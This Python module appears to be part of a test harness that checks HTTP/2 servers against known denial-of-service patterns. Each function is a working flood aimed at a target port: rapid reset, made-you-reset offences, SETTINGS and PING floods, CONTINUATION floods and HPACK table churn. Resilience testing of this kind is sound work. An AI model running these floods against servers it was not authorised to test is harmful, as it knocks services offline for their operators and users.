"""Floods of frames that cost the sender nothing: each function is one attack on a target.

Names follow the CVEs of 2019 (9511-9518), 2023-44487, 2024-27316 and 2025-8671.
"""

import time

from attack_target import SCALE, SURVIVED, Attacker, Outcome, Target
from frames import (CANCEL, DEFAULT_FRAME_SIZE, ENABLE_PUSH, HEADER_TABLE_SIZE,
                    INITIAL_WINDOW_SIZE, LARGEST_WINDOW, continuation, data, frame,
                    grpc_fields, headers, ping, priority, rst_stream, settings, window_update)

FRAMES_IN_A_CHUNK = 200
STREAMS_IN_A_ROUND = 50
NOBODY_DEFINED_THIS = 0x16


def odd_ids(count: int, first=1):
    return range(first, first + 2 * count, 2)


def chunked(pieces, size=FRAMES_IN_A_CHUNK):
    """Joins frames into writes."""
    chunk = []
    for piece in pieces:
        chunk.append(piece)
        if len(chunk) == size:
            yield b"".join(chunk)
            chunk.clear()
    if chunk:
        yield b"".join(chunk)


def repeated(piece: bytes, count: int):
    return chunked(piece for _ in range(count * SCALE))


def flood(target: Target, make_frames, reads=True) -> Outcome:
    """`make_frames` gets the attacker and the block of a valid request."""
    with Attacker(target.port) as attacker:
        block = attacker.encoder.encode(target.fields(), huffman=False)
        # The second time every field is in the dynamic table, so the block can be sent at will.
        attacker.send(headers(1, block, True))
        block = attacker.encoder.encode(target.fields())
        return attacker.flood(chunked(make_frames(attacker, block)), reads)


def paced(target: Target, make_stream, count: int, extra=(), path=None) -> Outcome:
    """`make_stream` gives the frames of one stream from the block of a request and its id."""
    with Attacker(target.port) as attacker:
        fields = grpc_fields(path or target.path, extra=extra)
        attacker.send(headers(1, attacker.encoder.encode(fields, huffman=False), True))
        block = attacker.encoder.encode(fields)
        ids = list(odd_ids(count * SCALE, 3))
        return attacker.paced_flood(
            [make_stream(block, i) for i in ids[at:at + STREAMS_IN_A_ROUND]]
            for at in range(0, len(ids), STREAMS_IN_A_ROUND))


# MARK: Resets

def rapid_reset(target):
    return flood(target, lambda _, block: (
        headers(i, block) + rst_stream(i, CANCEL) for i in odd_ids(4000 * SCALE, 3)))


def rapid_reset_of_running_calls(target):
    return flood(target, lambda _, block: (
        headers(i, block) + data(i, target.message, True) + rst_stream(i, CANCEL)
        for i in odd_ids(4000 * SCALE, 3)))


def rapid_reset_unread(target):
    return flood(target, lambda _, block: (
        headers(i, block) + rst_stream(i, CANCEL) for i in odd_ids(4000 * SCALE, 3)), reads=False)


# A field that HTTP/2 forbids: the server has to reset the stream.
MALFORMED = [("connection", "keep-alive")]


def reset_flood(target):
    return paced(target, lambda block, i: headers(i, block, True), 3000, MALFORMED)


def reset_flood_unread(target):
    def requests(attacker, _):
        fields = target.fields(extra=MALFORMED)
        yield headers(3, attacker.encoder.encode(fields), True)
        block = attacker.encoder.encode(fields)
        for i in odd_ids(3000 * SCALE, 5):
            yield headers(i, block, True)
    return flood(target, requests, reads=False)


def made_you_reset(make_offence, extra=()):
    """Opens streams and then gives the server a reason to reset each."""
    return lambda target: paced(
        target, lambda block, i: headers(i, block) + make_offence(target, block, i), 3000, extra)


MADE_YOU_RESET = {
    "window_overflow": made_you_reset(lambda t, block, i: window_update(i, LARGEST_WINDOW)),
    "window_zero": made_you_reset(lambda t, block, i: window_update(i, 0)),
    "data_after_end": made_you_reset(
        lambda t, block, i: data(i, t.message, True) + data(i, b"more", True)),
    "headers_after_end": made_you_reset(
        lambda t, block, i: data(i, t.message, True) + headers(i, block, True)),
    "priority_self": made_you_reset(lambda t, block, i: priority(i, depends=i)),
    "priority_length": made_you_reset(lambda t, block, i: frame(2, 0, i, bytes(4))),
    # :method POST is entry 3 of the static table: one byte.
    "trailers_pseudo": made_you_reset(
        lambda t, block, i: data(i, t.message) + headers(i, b"\x83", True)),
    "content_length": made_you_reset(
        lambda t, block, i: data(i, t.message, True), [("content-length", "1")]),
}


# MARK: Frames of the connection

def settings_flood(target, reads=True):
    return flood(target, lambda *_: repeated(settings((INITIAL_WINDOW_SIZE, 65_535)), 20_000), reads)


def settings_flood_empty_unread(target):
    return flood(target, lambda *_: repeated(settings(), 20_000), reads=False)


def settings_many_entries(target):
    entries = [(ENABLE_PUSH, 0)] * (DEFAULT_FRAME_SIZE // 6)
    return flood(target, lambda *_: repeated(settings(*entries), 100))


def ping_flood(target, reads=True):
    return flood(target, lambda *_: repeated(ping(), 20_000), reads)


def ping_flood_unread(target):
    return ping_flood(target, reads=False)


def priority_churn(target):
    return flood(target, lambda *_: (
        priority(2 * (index % 50_000) + 3, depends=1, weight=index % 256, exclusive=True)
        for index in range(50_000 * SCALE)))


def window_update_flood(target):
    return flood(target, lambda *_: repeated(window_update(0, 1), 50_000))


def window_update_flood_of_a_stream(target):
    return flood(target, lambda _, block: (
        headers(3, block) if n == 0 else window_update(3, 1) for n in range(50_000 * SCALE)))


def unknown_frames(target):
    return flood(target, lambda *_: repeated(frame(NOBODY_DEFINED_THIS), 50_000))


def unknown_frames_with_payload(target):
    piece = frame(NOBODY_DEFINED_THIS, payload=bytes(DEFAULT_FRAME_SIZE))
    return flood(target, lambda *_: (piece for _ in range(4000 * SCALE)))


# MARK: Frames that carry nothing

def _on_one_stream(piece: bytes, count: int):
    def frames(_, block):
        yield headers(3, block)
        yield from repeated(piece, count)
    return frames


def empty_frames(target):
    return flood(target, _on_one_stream(data(3), 20_000))


def empty_frames_padded(target):
    return flood(target, _on_one_stream(data(3, padding=255), 20_000))


def empty_frames_continuation(target):
    return paced(target, lambda block, i: (
        headers(i, b"", True, False) + continuation(i, b"") * 6 + continuation(i, block, True)),
        5000)


def empty_frames_closed_stream(target):
    """DATA on a stream that the server has closed is not even shown to the application."""
    return flood(target, lambda *_: repeated(data(1), 20_000))


# MARK: Header blocks

def continuation_flood(target):
    def frames(attacker, _):
        piece = attacker.encoder.encode([("x-more", "y" * 100)])
        yield headers(3, piece, False, False)
        yield from repeated(continuation(3, b"\xbe"), 20_000)
    return flood(target, frames)


def continuation_flood_empty(target):
    def frames(_, block):
        yield headers(3, block, False, False)
        yield from repeated(continuation(3, b""), 20_000)
    return flood(target, frames)


def continuation_flood_many_blocks(target):
    """Each header block in eight frames, within what one block may have."""
    def stream(block, i):
        size = max(1, len(block) // 6)
        pieces = [block[at:at + size] for at in range(0, len(block), size)]
        return headers(i, pieces[0], True, False) + b"".join(
            continuation(i, piece, at == len(pieces)) for at, piece in enumerate(pieces[1:], 2))
    return paced(target, stream, 5000)


def table_size_churn(target):
    """Each SETTINGS changes the table that the server writes with; each block empties and restores
    the one that it reads with."""
    return paced(target, lambda block, i: (
        settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 4096))
        + headers(i, b"\x20\x3f\xe1\x1f\x83\x86\x84", True)), 3000)


def table_size_above_the_limit(target):
    return flood(target, lambda *_: (
        headers(i, b"\x3f\xe1\xff\xff\x7f\x83", True) for i in odd_ids(100, 3)))


def post_terminate_garbage(target):
    """Goes on sending after an offence for which the server ends the connection (CVE-2026-27135)."""
    def frames(_, block):
        yield ping() + frame(6, 0, 3, bytes(8)) + headers(3, block, True)
        yield from (headers(i, block) + data(i, target.message, True) + b"\xff" * 64
                    for i in odd_ids(5000 * SCALE, 5))
    return flood(target, frames)


def bad_preface(target):
    """Connections that begin with something else; each one has to be closed."""
    beginnings = [b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", bytes.fromhex("16030100a5010000a10303") + bytes(160),
                  b"PRI * HTTP/1.0\r\n\r\nSM\r\n\r\n", b"\x00" * 64, b"SSH-2.0-x\r\n"]
    start = time.monotonic()
    for number in range(100 * SCALE):
        with Attacker(target.port, handshake=False) as attacker:
            attacker.send(beginnings[number % len(beginnings)])
            outcome = attacker.outcome(start)
            if outcome.kind == SURVIVED:
                return outcome
    return outcome
